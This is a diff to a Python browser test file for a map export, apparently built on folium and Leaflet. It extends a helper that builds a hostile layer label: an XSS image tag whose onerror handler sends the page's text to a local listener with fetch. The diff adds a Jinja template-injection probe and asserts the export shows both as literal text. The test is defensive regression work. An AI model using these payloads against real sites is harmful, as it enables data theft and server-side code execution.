@@ -64,10 +64,12 @@ class Listener:
 
 
 def hostile_label(port: int) -> str:
-    """An image whose error handler marks the document and sends its text to the listener."""
+    """An image whose error handler marks the document and sends its text to the listener; then
+    what Jinja would run (folium read its own output again as a template: « {{ 6*7 }} » was
+    written « 42 » in the export, with Python in reach, until carte/verbatim.py)."""
     return (
         "<img src=x onerror=\"window.rxPwned=1;fetch('http://127.0.0.1:%d/vol?'"
-        '+encodeURIComponent(document.body.innerText.slice(0,500)))">' % port
+        '+encodeURIComponent(document.body.innerText.slice(0,500)))"> «{{ 6*7 }}»' % port
     )
 
 
@@ -244,7 +246,8 @@ def test_the_standalone_export_opened_from_disk_shows_the_label_as_text(page, br
         assert_nothing_ran(offline, offline.evaluate, listener, watch)
         names = control.locator(".leaflet-control-layers-overlays label").filter(has_text=SHOWN)
         expect(names).to_be_visible()
-        expect(names).to_contain_text(label)
+        expect(names).to_contain_text(label)  # « {{ 6*7 }} » as written, not run
+        expect(names).not_to_contain_text("«42»")
         expect(offline.locator(".rx-legend")).to_contain_text(SHOWN)
         offline.locator(QPV_PATH).first.dispatch_event("mouseover")
         expect(offline.locator(".leaflet-tooltip").last).to_contain_text(SHOWN)
